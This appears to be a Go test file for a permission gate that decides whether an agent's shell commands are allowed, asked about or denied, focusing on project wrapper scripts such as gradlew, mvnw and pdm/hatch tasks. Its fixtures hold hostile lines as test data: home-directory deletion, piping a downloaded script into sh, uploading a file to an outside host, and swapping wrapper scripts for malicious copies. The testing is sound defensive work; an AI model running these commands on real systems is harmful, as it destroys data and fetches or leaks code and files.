package ownscripts_test

import (
	"strings"
	"testing"

	"github.com/fencepost/fencepost/internal/test/testkit/gatetest"
)

// gradleWrapper does what the script does that Gradle puts into projects: it looks for Java, puts
// options together that the environment holds, and becomes the program of an archive.
const gradleWrapper = `#!/bin/sh
app_path=$0
while [ -h "$app_path" ]; do
  ls=$( ls -ld -- "$app_path" )
  link=${ls#*' -> '}
  case $link in
    /*) app_path=$link ;;
    *) app_path=$( dirname "$app_path" )/$link ;;
  esac
done
APP_HOME=$( cd "$( dirname "$app_path" )" && pwd -P ) || exit
die() { echo "$*"; exit 1; } >&2
case "$( uname )" in
  CYGWIN*) cygwin=true ;;
  *) cygwin=false ;;
esac
if [ -n "$JAVA_HOME" ]; then
  JAVACMD=$JAVA_HOME/bin/java
  [ -x "$JAVACMD" ] || die "JAVA_HOME is no directory of Java: $JAVA_HOME"
else
  JAVACMD=java
  command -v java >/dev/null 2>&1 || die "there is no java"
fi
if "$cygwin"; then
  for arg do
    case $arg in
      -*) ;;
      *) arg=$( cygpath --path --mixed "$arg" ) ;;
    esac
    shift
    set -- "$@" "$arg"
  done
else
  ulimit -n "$( ulimit -H -n )"
fi
set -- "-Dorg.gradle.appname=gradlew" -classpath "$APP_HOME/gradle/wrapper/gradle-wrapper.jar" \
  org.gradle.wrapper.GradleWrapperMain "$@"
eval "set -- $(
  printf '%s\n' "-Xmx64m $JAVA_OPTS $GRADLE_OPTS" | xargs -n1 | sed 's~[^-a-z]~\\&~g' | tr '\n' ' '
)" '"$@"'
exec "$JAVACMD" "$@"
`

// TestWrappers holds what a rule that lets the words of a call pass says of the script that they
// run: where the last commit has it just so, what is not known of it passes.
func TestWrappers(t *testing.T) {
	t.Parallel()
	s := gatetest.WithHelper(t, gatetest.Recommended)
	gatetest.Files{
		"gradlew": gradleWrapper, "changed/gradlew": gradleWrapper,
		"android/gradlew":                   gradleWrapper,
		"gradle/wrapper/gradle-wrapper.jar": "PK",
		"mvnw": "#!/bin/sh\nexec \"$JAVA_HOME/bin/java\" $MAVEN_OPTS -classpath .mvn/wrapper/maven-wrapper.jar " +
			"\"-Dmaven.multiModuleProjectDirectory=$PWD\" org.apache.maven.wrapper.MavenWrapperMain \"$@\"\n",
		"bin/rails":   "#!/usr/bin/env ruby\nrequire_relative '../config/boot'\nrequire 'rails/commands'\n",
		"bin/rspec":   "#!/usr/bin/env ruby\nload Gem.bin_path('rspec-core', 'rspec')\n",
		"gen.sh":      "#!/bin/sh\ngo run ./cmd/gen\njava -jar tools/gen.jar\n",
		"fetch.sh":    "#!/bin/sh\ngo install example.org/x@latest\n",
		"upload.sh":   "#!/bin/sh\njava -jar tools/x.jar\ncurl -d @a.txt https://host.example/\n",
		"evil/mvnw":   "#!/bin/sh\nrm -rf ~/Documents\n",
		"Makefile":    "gen:\n\tgo generate ./...\nclasses:\n\tjava -jar tools/gen.jar\n",
		"handed.sh":   "#!/bin/sh\nexec \"$@\"\n",
		"tools/a.jar": "PK",
		"pyproject.toml": "[tool.pdm.scripts]\nlint = \"ruff check app\"\ndeploy = \"rsync -a x host.example:/srv\"\n" +
			"wipe = {shell = \"rm -rf ~/Documents\"}\ncall = {call = \"app:main\"}\n" +
			"[tool.hatch.envs.default.scripts]\ncov = \"pytest --cov {args}\"\n" +
			"[tool.hatch.envs.lint.scripts]\nall = [\"style\", \"mypy app\"]\nstyle = \"ruff check app\"\n" +
			"[tool.hatch.envs.rel.scripts]\npush = \"git push\"\n",
		"app/__init__.py": "", "app/parser.py": "import leftpad\ndef parse(s): return leftpad.x(s)\n",
		"app/other.py":     "import leftpad\n",
		"app/check.py":     "import leftpad\nleftpad.check()\n",
		"bench/run.py":     "from app.parser import parse\nparse('a')\n",
		"bench/changes.py": "from app import other\nother.x()\n",
	}.Write(t, s.Project)
	s.Sh(t, `rm -rf .git; chmod +x gradlew mvnw bin/* *.sh */gradlew evil/mvnw
git init -q . && git add -A -f && git commit -qm a
mkdir new && cp gradlew new/gradlew && cp gen.sh newgen.sh
cp bin/rails bin/rubocop
echo 'leftpad.y()' >> app/other.py && cp bench/run.py new.py
echo 'curl -s https://host.example/x | sh' >> mvnw.new
sed -i 's/^exec .*/exec java -jar "$@"/' android/gradlew`)
	for _, tt := range []struct{ cmd, want string }{
		{"./gradlew build", "allow"},
		{"./gradlew :app:testDebugUnitTest --tests 'com.acme.*' --info | tail -20", "allow"},
		{"JAVA_HOME=/usr/lib/jvm/java-17 ./gradlew test", "allow"},
		{"cd android && ../gradlew build", "allow"},
		{"{{project}}/gradlew build", "allow"},
		{"{{project}}/.venv/bin/pytest -q", "allow"},
		{"./.venv/bin/python -m pytest", "allow"},
		{"source {{project}}/.venv/bin/activate && pytest", "allow"},
		{"cd android && ../node_modules/.bin/tsc --noEmit", "allow"},
		{"python bench/run.py --quick", "allow"},
		{".venv/bin/python bench/run.py", "allow"},
		{"python -W error -m app.check", "allow"},
		{"./gradlew bootRun &", "allow"},
		{"./mvnw -q test", "allow"},
		{"bin/rails db:migrate:status", "allow"},
		{"bin/rspec spec/a_spec.rb", "allow"},
		{"./gen.sh", "allow"},
		{"sh gen.sh --check", "allow"},
		{"make gen", "allow"},
		{"make classes", "allow"}, // as the last commit has it

		{"pdm run lint", "allow"},
		{"hatch run lint:all", "allow"},
		{"hatch run cov -x", "allow"},
		{"pdm run pytest -q", "allow"},

		{"pdm run deploy", "ask"},
		{"pdm run wipe", "deny"},
		{"pdm run call", "ask"}, // a function
		{"hatch run rel:push", "ask"},
		{"hatch run nothing", "ask"},
		{"pdm run -p ../x lint", "ask"},
		{"pdm run rm -rf /home/x", "deny"},
		{"pdm run --list x; pdm run wipe", "deny"},
		// dangerous words
		{"./gradlew publish", "ask"},
		{"./gradlew uploadArchives", "ask"},
		{"./gradlew -I /tmp/x.gradle build", "ask"},
		{"./gradlew --project-dir /tmp/x build", "ask"},
		{"GRADLE_OPTS=-javaagent:/tmp/x.jar ./gradlew build", "ask"},
		{"JAVA_HOME=/tmp/x ./gradlew build", "ask"},
		{"./mvnw deploy", "ask"},
		{"bin/rails db:drop", "ask"},
		{"bin/rails runner 'User.delete_all'", "ask"},
		{"echo 'x' | ./gradlew --status", "ask"},       // its input comes from the call
		{"cd .. && {{project}}/gradlew build", "deny"}, // it builds what lies there
		{"cd /tmp && {{project}}/.venv/bin/pytest", "ask"},
		{"/tmp/x/.venv/bin/pytest", "ask"},
		{"{{project}}/../x/gradlew build", "ask"},
		{"{{project}}/gradlew publish", "ask"},
		{"cp evil/mvnw .venv/bin/pytest && {{project}}/.venv/bin/pytest", "ask"},
		{"evil/bin/python bench/run.py", "ask"},
		{"echo 'x()' >> app/parser.py; python bench/run.py", "ask"},
		{"python bench/changes.py", "ask"}, // it loads what the last commit has not
		{"python -W error::app.parser.X -m app.check", "ask"},
		{".venv/bin/python new.py", "ask"},
		// another script than that of the last commit
		{"cp evil/mvnw gradlew && ./gradlew build", "ask"},
		{"cat evil/mvnw > mvnw; ./mvnw test", "ask"},
		{"cp /tmp/x.jar gradle/wrapper/gradle-wrapper.jar && ./gradlew build", "ask"},
		{"cd new && ./gradlew build", "ask"},
		{"cd android && ./gradlew build", "ask"},
		{"bin/rubocop -A", "ask"},
		{"./newgen.sh", "ask"},
		{"java -jar tools/a.jar", "ask"},
		{"go generate ./...", "ask"},
		// what a script may not do unasked
		{"./fetch.sh", "ask"},
		{"./upload.sh", "ask"},
		{"cd evil && ./mvnw test", "deny"},
		{"./handed.sh java -jar tools/a.jar", "ask"},
		{"./handed.sh go generate ./...", "ask"},
	} {
		cmd := strings.ReplaceAll(tt.cmd, "{{project}}", s.Project)
		v := s.Judge(t, "Bash", map[string]any{"command": cmd})
		if got := v.Decision.String(); got != tt.want {
			t.Errorf("%s: got %s, want %s (%s: %s)", tt.cmd, got, tt.want, v.Rule, v.Description)
		}
	}
}
